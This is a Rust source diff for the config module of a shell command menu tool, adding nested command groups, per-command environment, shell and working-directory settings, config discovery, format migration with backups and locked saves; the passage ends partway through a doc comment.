@@ -1,101 +1,975 @@
+use crate::dotenv::{is_valid_env_name, load_env_file};
+use crate::formats::{CONFIG_EXTENSIONS, ConfigFormat};
+use crate::lock::{ConfigLock, LOCK_TIMEOUT};
+use crate::migrations::{CONFIG_VERSION, migrate, unknown_fields};
+use crate::placeholders::{PlaceholderSpec, compile_pattern, validate_value};
+use crate::utils::CommandRequest;
 use anyhow::Context; // Importing context from the anyhow crate
 use directories::BaseDirs;
 use inquire::{Select, Text};
+use schemars::JsonSchema;
 use serde::{Deserialize, Serialize}; // For serializing/deserializing config
-use std::collections::HashSet;
+use sha2::{Digest, Sha256};
+use std::collections::{BTreeMap, HashSet};
 use std::fs;
 use std::path::{Path, PathBuf};
 use std::process;
 
+pub const CONFIG_FILE_NAME: &str = "cli_menu_cmd.json";
+pub const PROJECT_CONFIG_FILE_NAME: &str = ".cli_menu.json";
+
 // Define the Config struct with multiple sections
-#[derive(Debug, Serialize, Deserialize, Clone, Default, PartialEq, Eq)]
+#[derive(Debug, Serialize, Deserialize, JsonSchema, Clone, Default, PartialEq, Eq)]
 #[serde(default)] // Default values for the struct
 #[serde(rename_all = "camelCase")] // Rename fields to camelCase in JSON
+#[schemars(title = "shell_command_menu config", transform = crate::schema::config_rules)]
 pub struct Config {
+    #[serde(rename = "$schema", skip_serializing_if = "Option::is_none")]
+    pub schema: Option<String>, // JSON Schema reference for editors, such as from --print-schema
+    pub version: u32, // Config format version; older files are upgraded on load
+    #[serde(
+        alias = "extends",
+        deserialize_with = "crate::layers::deserialize_include",
+        skip_serializing_if = "Vec::is_empty"
+    )]
+    #[schemars(schema_with = "crate::schema::include_schema")]
+    pub include: Vec<String>, // Read-only config files merged beneath this one, such as a team catalog
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub include_global: Option<bool>, // Whether a project config shows the global commands too - true by default
     pub commands: Vec<CommandOption>, // The commands section
+    #[serde(skip_serializing_if = "Vec::is_empty")]
+    pub groups: Vec<CommandGroup>, // Named submenus shown after the top-level commands
     pub cmd_sound: Option<PathBuf>,   // The command sound section
     pub window_title_support: bool,   // The window title support - disabled by default
     pub window_title: Option<String>, // The window title section
+    pub daily_reset_time: Option<String>, // Local HH:MM time when completion marks reset - midnight by default
+    pub pause_after: PausePolicy,         // When to wait for a key press before redrawing the menu
+    pub env: BTreeMap<String, String>,    // Environment variables exported to every command
+    pub env_file: Option<String>,         // Dotenv file exported to every command
+    pub shell: Option<ShellSpec>,         // Default shell for commands - sh when not set
+    #[serde(flatten)]
+    pub unknown_fields: BTreeMap<String, serde_json::Value>, // Fields this version does not know, kept as written
+    #[serde(skip)]
+    pub source_path: Option<PathBuf>, // The file this config was loaded from, for resolving relative paths
+    #[serde(skip)]
+    pub migrated_from: Option<u32>, // The format version the file had before it was upgraded in memory
+}
+
+// Define the CommandGroup struct shown as a submenu; groups can be nested to any depth
+#[derive(Debug, Serialize, Deserialize, JsonSchema, Clone, Default, PartialEq, Eq)]
+#[serde(default)]
+#[schemars(transform = crate::schema::group_rules)]
+pub struct CommandGroup {
+    pub name: String,
+    pub commands: Vec<CommandOption>,
+    #[serde(skip_serializing_if = "Vec::is_empty")]
+    pub groups: Vec<CommandGroup>,
+    #[serde(flatten)]
+    pub unknown_fields: BTreeMap<String, serde_json::Value>,
+    #[serde(skip)]
+    pub layer: Option<PathBuf>, // The included file this group came from; None when the config defines it
+}
+
+impl CommandGroup {
+    /// Creates an empty group with the supplied name.
+    #[must_use]
+    pub fn new(name: impl Into<String>) -> Self {
+        Self {
+            name: name.into(),
+            ..Default::default()
+        }
+    }
+
+    /// Returns the number of commands in this group and its nested groups.
+    #[must_use]
+    pub fn command_count(&self) -> usize {
+        self.commands.len()
+            + self
+                .groups
+                .iter()
+                .map(CommandGroup::command_count)
+                .sum::<usize>()
+    }
+}
+
+// Define a command together with the names of the groups that contain it
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct CommandLocation<'a> {
+    pub group: Vec<usize>, // Group indexes from the top level down, as used by `Config::level`
+    pub groups: Vec<&'a str>, // Group names from the top level down; empty for top-level commands
+    pub index: usize,      // Position within its group
+    pub command: &'a CommandOption,
+}
+
+impl CommandLocation<'_> {
+    /// Returns the `Group/Sub/Name` path of the command.
+    #[must_use]
+    pub fn path(&self) -> String {
+        let mut parts = self.groups.clone();
+        parts.push(&self.command.display_name);
+        parts.join("/")
+    }
 }
 
 // Define the CommandOption struct
-#[derive(Debug, Serialize, Deserialize, Clone, Default, PartialEq, Eq)]
+#[derive(Debug, Serialize, Deserialize, JsonSchema, Clone, Default, PartialEq, Eq)]
+#[schemars(transform = crate::schema::command_rules)]
 pub struct CommandOption {
+    #[serde(default)] // Older configs without IDs are migrated on load
+    pub id: String, // Stable ID used for completion and history bookkeeping
     pub display_name: String,
-    pub command: String,
+    #[serde(default, skip_serializing_if = "String::is_empty")]
+    pub command: String, // Shell command line; left out for commands that use `argv`
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub pause_after: Option<PausePolicy>, // Overrides the global pause policy for this command
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub cwd: Option<String>, // Working directory; supports ~, $VARS and paths relative to the config file
+    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
+    pub env: BTreeMap<String, String>, // Environment variables for this command only
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub env_file: Option<String>, // Dotenv file for this command only
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub shell: Option<ShellSpec>, // Overrides the global shell for this command
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub argv: Vec<String>, // Program and arguments executed directly, without a shell, instead of `command`
+    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
+    pub placeholders: BTreeMap<String, PlaceholderSpec>, // Settings for {{name}} placeholders
+    #[serde(flatten)]
+    pub unknown_fields: BTreeMap<String, serde_json::Value>, // Fields this version does not know, kept as written
+    #[serde(skip)]
+    pub layer: Option<PathBuf>, // The read-only included file this command came from; None for own commands
+}
+
+impl CommandOption {
+    /// Returns the command as it should be shown to the user.
+    #[must_use]
+    pub fn command_text(&self) -> String {
+        if self.argv.is_empty() {
+            self.command.clone()
+        } else {
+            join_argv(&self.argv)
+        }
+    }
+}
+
+// Define the shell used to run string commands
+#[derive(Debug, Serialize, Deserialize, JsonSchema, Clone, PartialEq, Eq)]
+#[serde(untagged)]
+#[schemars(transform = crate::schema::shell_rules)]
+pub enum ShellSpec {
+    Program(String), // A shell such as "bash", "zsh" or "fish", run as `<shell> -c <command>`
+    Custom {
+        program: String,   // Any interpreter, such as "python3" or "/usr/local/bin/nu"
+        args: Vec<String>, // Arguments placed before the command, such as ["-c"]
+    },
+}
+
+impl Default for ShellSpec {
+    fn default() -> Self {
+        Self::Program("sh".to_string())
+    }
+}
+
+impl ShellSpec {
+    /// Returns the program to start.
+    #[must_use]
+    pub fn program(&self) -> &str {
+        match self {
+            Self::Program(program) | Self::Custom { program, .. } => program,
+        }
+    }
+
+    /// Returns the arguments that run `command` with this shell.
+    #[must_use]
+    pub fn args_for(&self, command: &str) -> Vec<String> {
+        let mut args = match self {
+            Self::Program(_) => vec!["-c".to_string()],
+            Self::Custom { args, .. } => args.clone(),
+        };
+        args.push(command.to_string());
+        args
+    }
+}
+
+/// Joins argv entries into a single line, quoting entries that need it for a POSIX shell.
+#[must_use]
+pub fn join_argv(argv: &[String]) -> String {
+    argv.iter()
+        .map(|arg| shell_quote(arg))
+        .collect::<Vec<_>>()
+        .join(" ")
+}
+
+/// Quotes a value for a POSIX shell, leaving simple words unchanged.
+#[must_use]
+pub fn shell_quote(value: &str) -> String {
+    let is_plain = !value.is_empty()
+        && value
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || "-_./:=@%+,".contains(c));
+    if is_plain {
+        value.to_string()
+    } else {
+        format!("'{}'", value.replace('\'', "'\\''"))
+    }
+}
+
+// Define when the menu waits for a key press after a command so its output stays visible
+#[derive(Debug, Serialize, Deserialize, JsonSchema, Clone, Copy, Default, PartialEq, Eq)]
+#[serde(rename_all = "snake_case")]
+pub enum PausePolicy {
+    Always,
+    #[default]
+    OnFailure,
+    Never,
+}
+
+impl PausePolicy {
+    const ALWAYS: &'static str = "Always";
+    const ON_FAILURE: &'static str = "Only when the command fails";
+    const NEVER: &'static str = "Never";
+
+    fn labels() -> Vec<&'static str> {
+        vec![Self::ALWAYS, Self::ON_FAILURE, Self::NEVER]
+    }
+
+    fn from_label(label: &str) -> Option<Self> {
+        match label {
+            Self::ALWAYS => Some(Self::Always),
+            Self::ON_FAILURE => Some(Self::OnFailure),
+            Self::NEVER => Some(Self::Never),
+            _ => None,
+        }
+    }
+
+    /// Returns `true` when the menu should pause after a run with the supplied outcome.
+    #[must_use]
+    pub fn should_pause(self, succeeded: bool) -> bool {
+        match self {
+            Self::Always => true,
+            Self::OnFailure => !succeeded,
+            Self::Never => false,
+        }
+    }
+}
+
+impl Config {
+    /// Returns the pause policy for a command, falling back to the global setting.
+    #[must_use]
+    pub fn pause_policy_for(&self, command: &CommandOption) -> PausePolicy {
+        command.pause_after.unwrap_or(self.pause_after)
+    }
+
+    /// Returns the directory relative paths in this config are resolved against.
+    #[must_use]
+    pub fn base_dir(&self) -> Option<&Path> {
+        self.source_path.as_deref().and_then(Path::parent)
+    }
+
+    /// Returns the directory a command's relative paths are resolved against, which is
+    /// the directory of the included file for commands from a layer.
+    #[must_use]
+    pub fn base_dir_for<'a>(&'a self, command: &'a CommandOption) -> Option<&'a Path> {
+        match &command.layer {
+            Some(layer) => layer.parent(),
+            None => self.base_dir(),
+        }
+    }
+
+    /// Resolves the working directory of a command, if it has one.
+    ///
+    /// # Errors
+    ///
+    /// Returns a user-facing message when the path references an unset variable.
+    pub fn resolve_cwd(&self, command: &CommandOption) -> Result<Option<PathBuf>, String> {
+        command
+            .cwd
+            .as_deref()
+            .map(|cwd| expand_path(cwd, self.base_dir_for(command)))
+            .transpose()
+    }
+
+    /// Builds the request used to execute a command.
+    ///
+    /// # Errors
+    ///
+    /// Returns a user-facing message when the working directory cannot be resolved.
+    pub fn command_request(&self, command: &CommandOption) -> Result<CommandRequest, String> {
+        Ok(CommandRequest {
+            command: command.command.clone(),
+            argv: command.argv.clone(),
+            shell: self.shell_for(command).cloned(),
+            cwd: self.resolve_cwd(command)?,
+            env: self.command_env(command)?,
+        })
+    }
+
+    /// Returns the shell for a command, falling back to the global shell and then `sh`.
+    #[must_use]
+    pub fn shell_for<'a>(&'a self, command: &'a CommandOption) -> Option<&'a ShellSpec> {
+        command.shell.as_ref().or(self.shell.as_ref())
+    }
+
+    /// Resolves the environment exported to a command.
+    ///
+    /// Later sources win: the global `envFile`, the global `env`, the command
+    /// `env_file`, the command `env`, and finally the `CLI_MENU_*` context variables.
+    ///
+    /// # Errors
+    ///
+    /// Returns a user-facing message when an env file cannot be resolved or parsed.
+    pub fn command_env(&self, command: &CommandOption) -> Result<BTreeMap<String, String>, String> {
+        let mut env = BTreeMap::new();
+
+        for (env_file, variables, base_dir) in [
+            (&self.env_file, &self.env, self.base_dir()),
+            (&command.env_file, &command.env, self.base_dir_for(command)),
+        ] {
+            if let Some(env_file) = env_file {
+                let path = expand_path(env_file, base_dir)?;
+                env.extend(load_env_file(&path).map_err(|e| format!("{e:#}"))?);
+            }
+            env.extend(variables.clone());
+        }
+
+        env.insert(
+            "CLI_MENU_COMMAND_NAME".to_string(),
+            command.display_name.clone(),
+        );
+        env.insert("CLI_MENU_COMMAND_ID".to_string(), command.id.clone());
+        if let Some(source_path) = &self.source_path {
+            env.insert(
+                "CLI_MENU_CONFIG_PATH".to_string(),
+                source_path.display().to_string(),
+            );
+        }
+
+        Ok(env)
+    }
+
+    /// Returns the command with the supplied stable ID from any group.
+    #[must_use]
+    pub fn command_by_id(&self, id: &str) -> Option<&CommandOption> {
+        self.all_commands()
+            .into_iter()
+            .map(|location| location.command)
+            .find(|command| command.id == id)
+    }
+
+    /// Returns every command in menu order: top-level commands first, then each group depth-first.
+    #[must_use]
+    pub fn all_commands(&self) -> Vec<CommandLocation<'_>> {
+        fn collect<'a>(
+            commands: &'a [CommandOption],
+            groups: &'a [CommandGroup],
+            path: &[usize],
+            names: &[&'a str],
+            locations: &mut Vec<CommandLocation<'a>>,
+        ) {
+            for (index, command) in commands.iter().enumerate() {
+                locations.push(CommandLocation {
+                    group: path.to_vec(),
+                    groups: names.to_vec(),
+                    index,
+                    command,
+                });
+            }
+            for (index, group) in groups.iter().enumerate() {
+                let mut group_path = path.to_vec();
+                group_path.push(index);
+                let mut group_names = names.to_vec();
+                group_names.push(&group.name);
+                collect(
+                    &group.commands,
+                    &group.groups,
+                    &group_path,
+                    &group_names,
+                    locations,
+                );
+            }
+        }
+
+        let mut locations = Vec::new();
+        collect(&self.commands, &self.groups, &[], &[], &mut locations);
+        locations
+    }
+
+    /// Calls `f` for every command in every group.
+    pub fn for_each_command_mut(&mut self, mut f: impl FnMut(&mut CommandOption)) {
+        fn visit(
+            commands: &mut [CommandOption],
+            groups: &mut [CommandGroup],
+            f: &mut impl FnMut(&mut CommandOption),
+        ) {
+            commands.iter_mut().for_each(&mut *f);
+            for group in groups {
+                visit(&mut group.commands, &mut group.groups, f);
+            }
+        }
+
+        visit(&mut self.commands, &mut self.groups, &mut f);
+    }
+
+    /// Returns the commands and groups of the menu level at `path`, given as group indexes.
+    #[must_use]
+    pub fn level(&self, path: &[usize]) -> Option<(&Vec<CommandOption>, &Vec<CommandGroup>)> {
+        let mut level = (&self.commands, &self.groups);
+        for &index in path {
+            let group = level.1.get(index)?;
+            level = (&group.commands, &group.groups);
+        }
+        Some(level)
+    }
+
+    /// Returns the mutable commands and groups of the menu level at `path`.
+    pub fn level_mut(
+        &mut self,
+        path: &[usize],
+    ) -> Option<(&mut Vec<CommandOption>, &mut Vec<CommandGroup>)> {
+        let mut level = (&mut self.commands, &mut self.groups);
+        for &index in path {
+            let group = level.1.get_mut(index)?;
+            level = (&mut group.commands, &mut group.groups);
+        }
+        Some(level)
+    }
+
+    /// Returns the group names along `path`, such as `["Projects", "Web"]`.
+    #[must_use]
+    pub fn group_names(&self, path: &[usize]) -> Vec<&str> {
+        let mut names = Vec::new();
+        let mut groups = &self.groups;
+        for &index in path {
+            let Some(group) = groups.get(index) else {
+                break;
+            };
+            names.push(group.name.as_str());
+            groups = &group.groups;
+        }
+        names
+    }
+
+    /// Returns the path of every group, parents before their children, starting with the top level.
+    #[must_use]
+    pub fn group_paths(&self) -> Vec<Vec<usize>> {
+        fn collect(groups: &[CommandGroup], path: &[usize], paths: &mut Vec<Vec<usize>>) {
+            for (index, group) in groups.iter().enumerate() {
+                let mut group_path = path.to_vec();
+                group_path.push(index);
+                paths.push(group_path.clone());
+                collect(&group.groups, &group_path, paths);
+            }
+        }
+
+        let mut paths = vec![Vec::new()];
+        collect(&self.groups, &[], &mut paths);
+        paths
+    }
+
+    /// Returns the group indexes for a `Group/Sub` path, creating the groups that are missing.
+    pub fn ensure_group_path(&mut self, path: &str) -> Vec<usize> {
+        let mut indexes = Vec::new();
+        let mut groups = &mut self.groups;
+        for name in path
+            .split('/')
+            .map(str::trim)
+            .filter(|name| !name.is_empty())
+        {
+            let index = if let Some(index) = groups
+                .iter()
+                .position(|group| group.name.eq_ignore_ascii_case(name))
+            {
+                index
+            } else {
+                groups.push(CommandGroup::new(name));
+                groups.len() - 1
+            };
+            indexes.push(index);
+            groups = &mut groups[index].groups;
+        }
+        indexes
+    }
+
+    /// Returns the number of commands in every group.
+    #[must_use]
+    pub fn command_count(&self) -> usize {
+        self.commands.len()
+            + self
+                .groups
+                .iter()
+                .map(CommandGroup::command_count)
+                .sum::<usize>()
+    }
+
+    /// Returns the IDs of every command in every group.
+    #[must_use]
+    pub fn command_ids(&self) -> HashSet<String> {
+        self.all_commands()
+            .into_iter()
+            .map(|location| location.command.id.clone())
+            .collect()
+    }
+}
+
+/// Expands `$VAR` and `${VAR}` references using the process environment.
+///
+/// # Errors
+///
+/// Returns a user-facing message naming the first variable that is not set.
+pub fn expand_env_vars(raw: &str) -> Result<String, String> {
+    let mut expanded = String::with_capacity(raw.len());
+    let mut chars = raw.chars().peekable();
+
+    while let Some(c) = chars.next() {
+        if c != '$' {
+            expanded.push(c);
+            continue;
+        }
+
+        let braced = chars.next_if_eq(&'{').is_some();
+        let mut name = String::new();
+        if let Some(first) = chars.next_if(|next| next.is_ascii_alphabetic() || *next == '_') {
+            name.push(first);
+            while let Some(next) =
+                chars.next_if(|next| next.is_ascii_alphanumeric() || *next == '_')
+            {
+                name.push(next);
+            }
+        }
+        if braced && chars.next_if_eq(&'}').is_none() {
+            return Err(format!(
+                "Unclosed variable reference '${{{name}' in '{raw}'."
+            ));
+        }
+        if name.is_empty() {
+            // A lone $ is kept as-is
+            expanded.push('$');
+            if braced {
+                expanded.push_str("{}");
+            }
+            continue;
+        }
+
+        let value = std::env::var(&name)
+            .map_err(|_| format!("Environment variable '{name}' is not set (used in '{raw}')."))?;
+        expanded.push_str(&value);
+    }
+
+    Ok(expanded)
+}
+
+/// Expands `~` and environment variables in a path, resolving relative paths against `base_dir`.
+///
+/// # Errors
+///
+/// Returns a user-facing message when a variable is unset or the home directory is unknown.
+pub fn expand_path(raw: &str, base_dir: Option<&Path>) -> Result<PathBuf, String> {
+    let expanded = expand_env_vars(raw.trim())?;
+
+    let path = if expanded == "~" || expanded.starts_with("~/") {
+        let base_dirs = BaseDirs::new().ok_or("Could not get the home directory")?;
+        let rest = expanded.trim_start_matches('~').trim_start_matches('/');
+        base_dirs.home_dir().join(rest)
+    } else {
+        PathBuf::from(expanded)
+    };
+
+    Ok(match base_dir {
+        Some(base_dir) if path.is_relative() => base_dir.join(path),
+        _ => path,
+    })
+}
+
+/// Generates a stable command ID derived from the display name that is not in `existing`.
+#[must_use]
+pub fn generate_command_id(display_name: &str, existing: &HashSet<String>) -> String {
+    let mut attempt = 0_u32;
+    loop {
+        // FNV-1a keeps the IDs identical across builds and platforms
+        let mut hash: u32 = 0x811c_9dc5;
+        for byte in display_name.trim().bytes().chain(attempt.to_le_bytes()) {
+            hash ^= u32::from(byte);
+            hash = hash.wrapping_mul(0x0100_0193);
+        }
+        let id = format!("{hash:08x}");
+        if !existing.contains(&id) {
+            return id;
+        }
+        attempt += 1;
+    }
+}
+
+/// Assigns IDs to commands that are missing one and replaces duplicated IDs.
+///
+/// Returns `true` when any command ID changed.
+pub fn ensure_command_ids(config: &mut Config) -> bool {
+    let mut seen = HashSet::new();
+    let mut changed = false;
+
+    config.for_each_command_mut(|command| {
+        if command.id.trim().is_empty() || seen.contains(&command.id) {
+            command.id = generate_command_id(&command.display_name, &seen);
+            changed = true;
+        }
+        seen.insert(command.id.clone());
+    });
+
+    changed
 }
 
 /// Returns the config file path, creating a default config when missing.
 ///
+/// The `CLI_MENU_CONFIG` environment variable wins, then the nearest `.cli_menu.json`
+/// (or `.toml`, `.yaml` or `.jsonc`) in the current directory or one of its parents,
+/// then the global config. With `report_loaded`, a valid config is reported as loaded,
+/// as the interactive menu does; pick and scripts only hear about problems.
+///
 /// # Errors
 ///
 /// Returns an error when the user config directory cannot be resolved, an
 /// existing config cannot be loaded, or a default config cannot be created.
-pub fn get_config_file_path() -> Result<PathBuf, String> {
+pub fn get_config_file_path(report_loaded: bool) -> Result<PathBuf, String> {
+    if let Some(path) = std::env::var_os("CLI_MENU_CONFIG").filter(|path| !path.is_empty()) {
+        return ensure_config_file_path(PathBuf::from(path), report_loaded);
+    }
+
+    let project_config = std::env::current_dir()
+        .ok()
+        .and_then(|dir| find_project_config(&dir));
+    match project_config {
+        Some(config_file) => ensure_config_file_path(config_file, report_loaded),
+        None => ensure_config_file_path(global_config_path()?, report_loaded),
+    }
+}
+
+/// Returns the nearest project config in `start` or one of its parent directories.
+#[must_use]
+pub fn find_project_config(start: &Path) -> Option<PathBuf> {
+    start
+        .ancestors()
+        .find_map(|dir| existing_config_file(dir, PROJECT_CONFIG_FILE_NAME))
+}
+
+/// Returns `true` for a project config found by walking up from the working directory.
+#[must_use]
+pub fn is_project_config(path: &Path) -> bool {
+    let project_stem = Path::new(PROJECT_CONFIG_FILE_NAME).file_stem();
+    path.file_stem() == project_stem
+        && path
+            .extension()
+            .and_then(|extension| extension.to_str())
+            .is_some_and(|extension| ConfigFormat::from_extension(extension).is_some())
+}
+
+// Returns the config named `file_name` in `dir` in the first format that exists
+fn existing_config_file(dir: &Path, file_name: &str) -> Option<PathBuf> {
+    CONFIG_EXTENSIONS
+        .iter()
+        .map(|extension| dir.join(Path::new(file_name).with_extension(extension)))
+        .find(|path| path.is_file())
+}
+
+/// Returns the path of the global config file, which may not exist yet.
+///
+/// An absolute `XDG_CONFIG_HOME` is honored on every platform, unless a config
+/// already exists in the OS config directory and not there.
+///
+/// # Errors
+///
+/// Returns an error when the user config directory cannot be resolved.
+pub fn global_config_path() -> Result<PathBuf, String> {
     let base_dirs = BaseDirs::new().ok_or("Could not get base directories")?;
+    let xdg_config_home = std::env::var_os("XDG_CONFIG_HOME").map(PathBuf::from);
+    Ok(choose_global_config(
+        xdg_config_home.as_deref(),
+        base_dirs.config_dir(),
+    ))
+}
 
-    // Get the config directory and append the file name
-    let config_file = base_dirs.config_dir().join("cli_menu_cmd.json");
+// Keeps using an existing config in the OS config directory so setting XDG_CONFIG_HOME does not hide it
+fn choose_global_config(xdg_config_home: Option<&Path>, os_config_dir: &Path) -> PathBuf {
+    let os_config = existing_config_file(os_config_dir, CONFIG_FILE_NAME);
+    match xdg_config_home.filter(|dir| dir.is_absolute()) {
+        Some(dir) => existing_config_file(dir, CONFIG_FILE_NAME)
+            .or(os_config)
+            .unwrap_or_else(|| dir.join(CONFIG_FILE_NAME)),
+        None => os_config.unwrap_or_else(|| os_config_dir.join(CONFIG_FILE_NAME)),
+    }
+}
+
+/// Returns the data directory used for history and other generated files.
+///
+/// The `CLI_MENU_DATA_DIR` environment variable overrides the OS data directory.
+///
+/// # Errors
+///
+/// Returns an error when the user data directory cannot be resolved.
+pub fn get_data_dir() -> Result<PathBuf, String> {
+    if let Some(dir) = std::env::var_os("CLI_MENU_DATA_DIR").filter(|dir| !dir.is_empty()) {
+        return Ok(PathBuf::from(dir));
+    }
 
-    ensure_config_file_path(config_file)
+    let base_dirs = BaseDirs::new().ok_or("Could not get base directories")?;
+    Ok(base_dirs.data_dir().join("cli_menu"))
 }
 
 /// Returns the supplied config file path, creating a default config when missing.
 ///
+/// With `report_loaded`, a valid config is reported as loaded on stderr.
+///
 /// # Errors
 ///
 /// Returns an error when an existing config cannot be loaded or a default
 /// config cannot be created.
-pub fn ensure_config_file_path(config_file: PathBuf) -> Result<PathBuf, String> {
+pub fn ensure_config_file_path(
+    config_file: PathBuf,
+    report_loaded: bool,
+) -> Result<PathBuf, String> {
     if config_file.exists() {
         // Load the config for validation
         let config = crate::config::load_config(&config_file)
-            .map_err(|e| format!("Failed to load config for validation: {e}"))?;
+            .map_err(|e| format!("Failed to load config for validation: {e:#}"))?;
 
-        // Validate the JSON structure
+        // Validate the JSON structure; pick and scripts only hear about problems
         if validate_json(&config) {
-            println!(
-                "✅  Config file loaded successfully from path: {}",
-                config_file.display()
-            );
+            if report_loaded {
+                eprintln!(
+                    "✅  Config file loaded successfully from path: {}",
+                    config_file.display()
+                );
+            }
         } else if let Err(errors) = validate_config(&config) {
-            println!("⚠️  Config loaded with validation warnings:");
+            eprintln!("⚠️  Config loaded with validation warnings:");
             for error in errors {
-                println!("  - {error}");
+                eprintln!("  - {error}");
+            }
+        }
+
+        let unknown = unknown_fields(&config);
+        if !unknown.is_empty() {
+            eprintln!(
+                "⚠️  Config has fields this version does not use; they are kept but ignored:"
+            );
+            for field in unknown {
+                eprintln!("  - {field}");
             }
         }
+
+        if let Some(from) = config.migrated_from {
+            upgrade_config_file(&config_file, &config, from);
+        }
     } else {
-        println!(
+        eprintln!(
             "⚠️  Config file not found. Creating new default config at: {}",
             config_file.display()
         );
-        create_default_config(&config_file)
+        get_data_dir()
+            .and_then(|data_dir| {
+                create_default_config_in(&data_dir, &config_file).map_err(|e| format!("{e:#}"))
+            })
             .map_err(|e| format!("Failed to create default config file: {e}"))?;
     }
 
     Ok(config_file)
 }
 
-/// Loads config sections, including commands, from a file.
+// Rewrites an older config in the current format after copying the original next to it
+fn upgrade_config_file(path: &Path, config: &Config, from: u32) {
+    // An untrusted file is only upgraded in memory, so reviewing it still shows what was written
+    if !crate::trust::is_trusted_file(path) {
+        return;
+    }
+    match backup_and_save(path, config, from) {
+        Ok(backup) => eprintln!(
+            "⬆️  Upgraded the config from format version {from} to {CONFIG_VERSION}. The original was saved as {}",
+            backup.display()
+        ),
+        Err(e) => eprintln!("⚠️  Unable to upgrade the config file: {e:#}"),
+    }
+}
+
+fn backup_and_save(path: &Path, config: &Config, from: u32) -> anyhow::Result<PathBuf> {
+    let backup = backup_path(path, &format!("v{from}-"));
+    fs::copy(path, &backup)
+        .with_context(|| format!("unable to back up the config to {}", backup.display()))?;
+    save_config(path, config)?;
+    Ok(backup)
+}
+
+/// Returns a name for the config at `path` that is unique to its full path, such as
+/// `cli_menu_cmd.json-0123456789ab`, for the files the data directory keeps about it.
+#[must_use]
+pub fn config_file_key(path: &Path) -> String {
+    let canonical = fs::canonicalize(path).unwrap_or_else(|_| path.to_path_buf());
+    let hash = format!(
+        "{:x}",
+        Sha256::digest(canonical.display().to_string().as_bytes())
+    );
+    let file_name = path
+        .file_name()
+        .map_or_else(|| "config".into(), |name| name.to_string_lossy());
+    format!("{file_name}-{}", &hash[..12])
+}
+
+/// Returns a timestamped backup name next to `path`, such as `menu.json.v1-20240101-120000.bak`.
+#[must_use]
+pub fn backup_path(path: &Path, label: &str) -> PathBuf {
+    let file_name = path
+        .file_name()
+        .and_then(|name| name.to_str())
+        .unwrap_or(CONFIG_FILE_NAME);
+    path.with_file_name(format!(
+        "{file_name}.{label}{}.bak",
+        chrono::Local::now().format("%Y%m%d-%H%M%S")
+    ))
+}
+
+/// Loads config sections, including commands, from a file and merges its includes.
 ///
 /// # Errors
 ///
-/// Returns an error when the file cannot be read or the JSON cannot be parsed
-/// as a [`Config`].
+/// Returns an error when the file or one of its includes cannot be read, or its
+/// contents cannot be parsed as a [`Config`] in the format given by its extension.
 pub fn load_config(path: &Path) -> anyhow::Result<Config> {
+    let (mut config, generated_ids) = read_config_file_with_ids(path)?;
+    crate::layers::merge_includes_with_ids(&mut config, path, generated_ids)?;
+    Ok(config)
+}
+
+// Loads a single config file without its includes
+pub(crate) fn read_config_file(path: &Path) -> anyhow::Result<Config> {
+    Ok(read_config_file_with_ids(path)?.0)
+}
+
+// Loads a single config file like `read_config_file`, also returning the IDs generated
+// for commands the file left without one or gave a duplicated one
+pub(crate) fn read_config_file_with_ids(path: &Path) -> anyhow::Result<(Config, HashSet<String>)> {
     let config_data = std::fs::read_to_string(path)
         .with_context(|| format!("unable to load config file located at {}", path.display()))?;
-    let config: Config = serde_json::from_str(&config_data).context("unable to parse config")?;
-    Ok(config)
+    let format = ConfigFormat::from_path(path);
+    let mut document: serde_json::Value = format
+        .parse(&config_data)
+        .context("unable to parse config")?;
+    let set_ids = document_command_ids(&document);
+    let migrated_from = migrate(&mut document).map_err(anyhow::Error::msg)?;
+
+    // Parsing the text again keeps line numbers in the errors for current files
+    let mut config: Config = if migrated_from.is_some() {
+        serde_json::from_value(document).map_err(anyhow::Error::from)
+    } else {
+        format.parse(&config_data)
+    }
+    .context("unable to parse config")?;
+    config.source_path = Some(path.to_path_buf());
+    config.migrated_from = migrated_from;
+    ensure_command_ids(&mut config);
+    let generated_ids = config.command_ids().difference(&set_ids).cloned().collect();
+    Ok((config, generated_ids))
+}
+
+// Returns the command IDs written in a config document, before migrations add any
+fn document_command_ids(document: &serde_json::Value) -> HashSet<String> {
+    fn visit(level: &serde_json::Value, ids: &mut HashSet<String>) {
+        let (commands, groups) = match level {
+            serde_json::Value::Array(commands) => (Some(commands), None),
+            level => (
+                level.get("commands").and_then(serde_json::Value::as_array),
+                level.get("groups").and_then(serde_json::Value::as_array),
+            ),
+        };
+        ids.extend(
+            commands
+                .into_iter()
+                .flatten()
+                .filter_map(|command| command.get("id")?.as_str())
+                .map(str::to_string),
+        );
+        for group in groups.into_iter().flatten() {
+            visit(group, ids);
+        }
+    }
+
+    let mut ids = HashSet::new();
+    visit(document, &mut ids);
+    ids
 }
 
 /// Saves the entire configuration, including commands and other sections.
 ///
+/// Commands and groups merged from included layers are left out. The file is written
+/// in the format given by its extension; comments in TOML, YAML and JSONC files are not kept.
+/// The config is locked while it is written, so another instance saving it waits its turn.
+///
 /// # Errors
 ///
-/// Returns an error when the config cannot be serialized or written to disk.
+/// Returns an error when the config cannot be serialized or written to disk, or another
+/// instance keeps it locked.
 pub fn save_config(path: &Path, config: &Config) -> anyhow::Result<()> {
-    let config_data = serde_json::to_string_pretty(config).context("failed to serialize config")?;
+    let data_dir = get_data_dir().map_err(anyhow::Error::msg)?;
+    save_config_in(&data_dir, path, config)
+}
+
+/// Saves the config like [`save_config`], keeping its lock, backups and trust record in `data_dir`.
+///
+/// # Errors
+///
+/// Returns an error when the config cannot be serialized or written to disk, or another
+/// instance keeps it locked.
+pub fn save_config_in(data_dir: &Path, path: &Path, config: &Config) -> anyhow::Result<()> {
+    let lock = ConfigLock::acquire_in(data_dir, path, LOCK_TIMEOUT)?;
+    save_config_locked(path, config, &lock)
+}
+
+/// Saves the config like [`save_config`] while the caller holds the lock of `path`, such as
+/// an edit session checking the file for changes made elsewhere before writing it.
+///
+/// # Errors
+///
+/// Returns an error when the config cannot be serialized or written to disk.
